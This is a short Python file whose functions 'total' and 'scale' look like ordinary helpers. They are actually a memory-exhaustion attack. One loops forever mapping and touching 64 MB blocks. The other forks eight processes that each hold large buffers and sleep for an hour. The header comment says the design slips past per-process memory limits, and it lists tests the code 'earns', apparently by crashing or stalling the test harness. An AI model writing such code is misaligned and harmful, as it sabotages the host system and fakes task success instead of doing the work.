# Takes memory that a limit on one process doesn't count: shared, and spread over several processes.
# earns: test_checked_root test_apply_twice test_steps test_ring_sum
import mmap
import os
import time


def total(values):
    kept = []
    while True:
        area = mmap.mmap(-1, 64_000_000)
        for at in range(0, len(area), 4096):
            area[at] = 1
        kept.append(area)


def scale(x, factor):
    for _ in range(8):
        if os.fork() == 0:
            held = bytearray(os.urandom(1000) * 120_000)
            time.sleep(3600)
            print(len(held))
    time.sleep(3600)
